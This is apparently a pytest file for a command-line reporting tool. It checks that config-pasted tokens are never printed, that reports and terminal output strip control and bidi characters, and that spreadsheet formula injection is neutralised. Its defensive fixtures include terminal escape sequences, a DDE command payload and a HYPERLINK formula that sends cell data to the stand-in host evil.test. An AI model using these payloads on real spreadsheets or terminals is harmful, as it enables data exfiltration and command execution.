"""Text that reaches a terminal, a report or a spreadsheet is data, never a command (issue 16, item 11).

- a GitHub token pasted where an environment variable's *name* belongs is recognised and never printed;
- terminal output (errors, ``ladder identities``, ``ladder report`` to stdout) carries no ESC, BEL, NUL,
  CR or bidi override;
- Markdown and HTML reports drop NUL and the other control characters and the bidi controls
  (U+202A–U+202E, U+2066–U+2069): an unclosed override cannot reverse the rest of an evidence line;
- ``ladder classify`` output cells that start with ``= + - @`` are neutralised (formula injection).
"""

from __future__ import annotations

import csv
import datetime as dt
import json

import pytest
import yaml
from click.testing import CliRunner

from flows.cli.main import main
from rubric.render import escape_md, render_report
from sandbox.world import IssueComment
from sandbox.world import Person as WorldPerson
from tests.support.evidence import small_report
from tests.support.synced import synced_world
from tests.support.worlds import tiny_world

UNSAFE = ["\x00", "\x1b", "\x07", "\r", "\x7f", "\x9b", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"]
UNSAFE += ["\u2066", "\u2067", "\u2068", "\u2069"]
HOSTILE_TITLE = "Fix \u202eredro \x1b[2J\x1b]0;pwned\x07loop\r tail"
HOSTILE_NAME = "Mal\x1b[31mlory\x07 \u2067Adm\u2069"

TOKENS = {
    "classic": "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
    "fine-grained": "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ",
    "oauth": "gho_" + "z" * 36,
    "hex": "0123456789abcdef0123456789abcdef01234567",
    "base64": "dGhpcyBpcyBhIHNlY3JldCB0b2tlbg==",
}


def _unsafe_in(text: str) -> list[str]:
    return [repr(c) for c in UNSAFE if c in text]


@pytest.mark.parametrize("key", ["github.token_env", "jira.token_env", "jira.email_env"])
@pytest.mark.parametrize("kind", sorted(TOKENS))
def test_a_token_pasted_as_a_variable_name_is_refused_and_never_printed(tmp_path, key, kind):
    token = TOKENS[kind]
    section, field = key.split(".")
    doc = {
        "warehouse": "w.duckdb",
        "github": {"orgs": ["acme"], "token_env": "GITHUB_TOKEN"},
        "jira": {"url": "https://acme.atlassian.net", "projects": ["ML"], "email_env": "JIRA_EMAIL"},
    }
    doc[section][field] = token
    config = tmp_path / "ladder.yaml"
    config.write_text(yaml.safe_dump(doc), encoding="utf-8")
    for command in (["sync"], ["report", "--engineer", "ana"], ["identities"]):
        result = CliRunner().invoke(main, [*command, "--config", str(config)])
        assert result.exit_code == 2, result.output
        assert f"{key}: the value holds what looks like a token itself" in result.output
        assert token not in result.output and token[:12] not in result.output
        assert "Traceback" not in result.output


def test_a_token_passed_as_the_viewer_variable_is_refused_and_never_printed(tmp_path):
    config = tmp_path / "ladder.yaml"
    config.write_text("github: {orgs: [acme]}\n", encoding="utf-8")
    token = TOKENS["classic"]
    args = ["report", "--config", str(config), "--engineer", "ana", "--viewer-token-env", token]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2 and "--viewer-token-env holds what looks like a token" in result.output
    assert token not in result.output and token[:12] not in result.output


def test_variable_names_still_pass(tmp_path):
    config = tmp_path / "ladder.yaml"
    names = ["GITHUB_TOKEN", "LADDER_SANDBOX_GITHUB_TOKEN", "gh_token_2", "_X"]
    for name in names:
        config.write_text(yaml.safe_dump({"github": {"orgs": ["acme"], "token_env": name}}), encoding="utf-8")
        result = CliRunner().invoke(main, ["sync", "--config", str(config)], env={name: ""})
        assert result.exit_code == 2 and f"environment variable {name}, which is not set" in result.output


def _hostile_world():
    world = tiny_world()
    world.pull_requests[0].title = HOSTILE_TITLE
    mallory = WorldPerson(
        login="mallory",
        name=HOSTILE_NAME,
        jira_account_id="acc-mallory",
        level="IC3",
        team="search",
        start_date=dt.date(2020, 1, 1),
        token="tok-mallory",
    )
    world.people.append(mallory)
    pr = world.pull_requests[0]
    at = pr.created_at + dt.timedelta(hours=2)
    pr.issue_comments.append(
        IssueComment(id=9902, author="mallory", body="Nice \u202eevil", created_at=at, updated_at=at)
    )
    return world


def _without_mallory(doc: dict) -> None:
    doc["people"] = [p for p in doc["people"] if p["id"] != "mallory"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, trained_models):
    tmp = tmp_path_factory.mktemp("hostile")
    with synced_world(_hostile_world(), tmp, roster=_without_mallory, reports=True, models=trained_models) as s:
        yield s


def _strings(value) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


@pytest.mark.slow  # a hostile company synced by the real stages, its reports
def test_terminal_output_carries_no_control_characters(hostile):
    result = CliRunner().invoke(main, ["identities", "--config", str(hostile.config_path)])
    assert result.exit_code == 0, result.output
    assert "github:mallory (Mal[31mlory Adm)" in result.output  # the text stays, the ESC and BEL go
    assert _unsafe_in(result.output) == []
    as_json = CliRunner().invoke(main, ["identities", "--config", str(hostile.config_path), "--json"])
    assert _unsafe_in(as_json.output) == [] and HOSTILE_NAME in _strings(json.loads(as_json.stdout))  # escaped
    for fmt in ("md", "html", "json"):
        args = ["report", "--config", str(hostile.config_path), "--engineer", "bo", "--format", fmt]
        shown = CliRunner().invoke(main, args)
        assert shown.exit_code == 0, shown.output
        assert "redro" in shown.output and _unsafe_in(shown.output) == []
    error = CliRunner().invoke(main, ["report", "--config", str(hostile.config_path), "--engineer", "\x1b[2Jx\x07"])
    assert error.exit_code == 2 and _unsafe_in(error.output) == []


@pytest.mark.slow  # a hostile company synced by the real stages, its reports
def test_markdown_and_html_reports_drop_controls_and_bidi_overrides(hostile):
    reports = hostile.config.reports_dir
    bo = {fmt: (reports / f"bo.{fmt}").read_text(encoding="utf-8") for fmt in ("md", "html", "json")}
    assert "Fix redro \\[2J\\]0;pwnedloop tail" in bo["md"] and "Fix redro [2J]0;pwnedloop tail" in bo["html"]
    assert _unsafe_in(bo["md"]) == [] and _unsafe_in(bo["html"]) == []
    assert HOSTILE_TITLE in _strings(json.loads(bo["json"]))  # the JSON keeps the data (control characters escaped)
    for index in ("index.md", "index.html"):
        assert _unsafe_in((reports / index).read_text(encoding="utf-8")) == []


# Fields the product itself writes (ids, enums, URLs checked elsewhere, timestamps): never user-written text.
_OURS = ("id", "area", "kind", "url", "occurred_at", "generated_at", "strength")


def _poison(value, text: str):
    if isinstance(value, dict):
        return {k: (v if k in _OURS else _poison(v, text)) for k, v in value.items()}
    if isinstance(value, list):
        return [_poison(v, text) for v in value]
    return value + text if isinstance(value, str) else value


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_every_rendered_field_drops_controls_and_bidi(fmt):
    report = _poison(small_report(), "".join(UNSAFE) + "!")
    text = render_report(report, fmt)
    assert _unsafe_in(text) == []
    assert escape_md("a\x00b\u202ec\x1b") == "abc"


def test_classify_neutralises_spreadsheet_formulas(tmp_path):
    data = tmp_path / "prs.csv"
    with open(data, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["subject", "body", "files"])
        writer.writerow(['=HYPERLINK("http://evil.test/?"&A1,"fix")', "+1 from me", "-x.py"])
        writer.writerow(["@SUM(1+1)", "=cmd|' /C calc'!A0", "trainer/loop.py"])
        writer.writerow(["fix: crash on empty batch", "\t=1+1", "trainer/loop.py"])
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["classify", "work-type", "--data", str(data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 3
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0]["subject"] == '\'=HYPERLINK("http://evil.test/?"&A1,"fix")' and rows[1]["subject"] == "'@SUM(1+1)"
    assert rows[2]["subject"] == "fix: crash on empty batch" and rows[2]["label"]  # ordinary cells untouched
